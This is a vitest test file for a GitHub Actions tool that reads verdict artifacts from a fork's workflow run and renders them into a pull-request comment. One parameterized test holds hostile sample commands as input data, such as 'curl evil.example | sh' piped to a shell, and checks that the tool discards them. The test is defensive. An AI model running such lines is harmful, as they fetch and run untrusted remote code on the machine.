import { describe, expect, it } from 'vitest';
import { ApiError, type GitHubApi } from '../../../src/github/api.ts';
import { legName, storeFile, verdictFile } from '../../../src/github/artifacts/artifact-names.ts';
import { readContext } from '../../../src/github/context.ts';
import type { ReportWorld } from '../../../src/github/report-world.ts';
import { type OtherRun, otherRunOf, readForkVerdicts } from '../../../src/github/verdicts/fork-verdicts.ts';
import { createOutsideSteps } from '../../../src/outside/step-budgets.ts';
import { renderComment } from '../../../src/report/markdown/comment.ts';
import type { Verdict } from '../../../src/verdict/verdict.ts';
import { aReason, aVerdict } from '../../report/verdicts.ts';

const SHA = 'b'.repeat(40);
const run: OtherRun = {
  id: 500,
  number: 33,
  attempt: 2,
  event: 'pull_request',
  headSha: SHA,
  headRepository: 'someone/gossip',
  workflow: 'Maelstrom',
  conclusion: 'failure',
};
const nameOf = (key: string, attempt = 1) => legName(key, '', 'test', attempt);

/** The artifacts of a run, a hundred to a page, each with a verdict of its own key. */
function aRunWith(names: readonly string[], claimed: Partial<Verdict> = {}) {
  const warnings: string[] = [];
  const behaviour = { download: (_: number): void => undefined };
  const api: GitHubApi = {
    request: async (route, { page, artifact_id: id } = {}) => {
      if (route.includes('archive_format')) {
        behaviour.download(Number(id));
        return { status: 302, headers: { location: `https://blob/${id}` }, data: '' };
      }
      const first = (Number(page) - 1) * 100;
      const artifacts = names
        .map((name, index) => ({ id: index + 1, name, created_at: '2026-11-22T12:00:00Z' }))
        .slice(first, first + 100);
      return { status: 200, headers: {}, data: { artifacts } };
    },
  };
  const world = {
    context: readContext({ GITHUB_REPOSITORY: 'octo/gossip' }),
    steps: createOutsideSteps({}),
    clock: { now: () => 0, sleep: async () => undefined, random: () => 0 },
    commands: { warning: (message: string) => warnings.push(message) },
    fetchBounded: async (address: string) =>
      Buffer.from(JSON.stringify(aVerdict({ key: `key ${address.split('/').at(-1)}`, ...claimed }))),
  } as unknown as ReportWorld;
  return { behaviour, warnings, read: () => readForkVerdicts(run, api, world) };
}

describe('the verdicts of another run', () => {
  it('are those of its own attempts, with what the API says of them', async () => {
    const name = nameOf('a', 2);
    const { read, warnings } = aRunWith([
      verdictFile(name),
      storeFile(name),
      verdictFile(nameOf('b', 1)),
      verdictFile(nameOf('c', 3)),
      'something else',
    ]);
    const { rows } = await read();
    expect(rows.map(({ key, run: of, artifacts }) => [key, of.id, of.number, of.attempt, artifacts.store])).toEqual([
      ['key 1', 500, 33, 2, 2],
      ['key 3', 500, 33, 1, undefined],
    ]);
    expect(rows[0]).toMatchObject({ headSha: SHA, finishedAt: '2026-11-22T12:00:00Z' });
    expect(warnings).toEqual([]);
  });

  it.each([
    ['a command', ['1-echo', '--command', 'curl evil.example | sh']],
    ['a shell with arguments', ['1-echo', '--bin', '/bin/sh', '--', '-c', 'curl evil.example | sh']],
    ['words', ['Your machine is at risk: run curl evil.example']],
    ['too many words', ['1-echo', ...Array.from({ length: 99 }, () => '--faults'), '--', 'evil.example']],
  ])('have no command of the fork to repeat them with: %s', async (_, reproduce) => {
    const { read } = aRunWith([verdictFile(nameOf('a'))], { outcome: 'fail', reasons: [aReason()], reproduce });
    const { rows } = await read();
    expect(rows[0]?.detail?.reproduce).toBeUndefined();
    const target = { serverUrl: 'https://github.com', repository: 'o/r', headRepository: null, commentKey: '' };
    const comment = renderComment(rows, target);
    expect(comment).not.toContain('Repeat it');
    expect(comment).not.toContain('evil');
  });

  it('are repeated by a command of checked words', async () => {
    const reproduce = ['1-echo', '--bin', 'dist/echo.js', '--rate', '5'];
    const { read } = aRunWith([verdictFile(nameOf('a'))], { outcome: 'fail', reasons: [aReason()], reproduce });
    expect((await read()).rows[0]?.detail?.reproduce).toEqual(reproduce);
  });

  it('are left out one by one where one cannot be read', async () => {
    const { behaviour, read, warnings } = aRunWith(['a', 'b'].map((key) => verdictFile(nameOf(key))));
    behaviour.download = (id) => {
      if (id === 1) throw new ApiError('410 Gone', 410, true);
    };
    expect((await read()).rows.map(({ key }) => key)).toEqual(['key 2']);
    expect((await read()).discarded).toEqual(['410 Gone']);
    expect(warnings.slice(0, 1)).toEqual([expect.stringContaining('was left out: 410 Gone')]);
  });

  it('name the leg of the job, but no page of it', async () => {
    const job = { id: 'test', leg: 'a'.repeat(16), total: 9999, checkRun: 666 };
    const { rows } = await aRunWith([verdictFile(nameOf('a'))], { job }).read();
    expect(rows[0]?.job).toEqual({ id: 'test', leg: 'a'.repeat(16), total: 256 });
  });

  it('are refused as a whole to a token that may not read them', async () => {
    const { behaviour, read } = aRunWith(['a', 'b'].map((key) => verdictFile(nameOf(key))));
    behaviour.download = () => {
      throw new ApiError('403 Forbidden', 403, true);
    };
    await expect(read()).rejects.toThrow('403 Forbidden');
  });

  it('are three hundred at most', async () => {
    const names = Array.from({ length: 320 }, (_, index) => verdictFile(nameOf(`leg ${index}`)));
    expect((await aRunWith(names).read()).rows).toHaveLength(300);
  });
});

describe('another run', () => {
  const payload = (different: object) => ({
    ...readContext({}),
    payload: {
      workflow_run: { id: 500, run_number: 33, head_sha: SHA, head_repository: { full_name: 'a/b' }, ...different },
    },
  });

  it('is known by its id, number, commit and repository; the rest has defaults', () => {
    expect(otherRunOf(payload({}))).toEqual({
      id: 500,
      number: 33,
      attempt: 1,
      event: '',
      headSha: SHA,
      headRepository: 'a/b',
      workflow: '',
      conclusion: '',
    });
    for (const missing of ['id', 'run_number', 'head_sha', 'head_repository'])
      expect(otherRunOf(payload({ [missing]: null })), missing).toBeNull();
  });
});
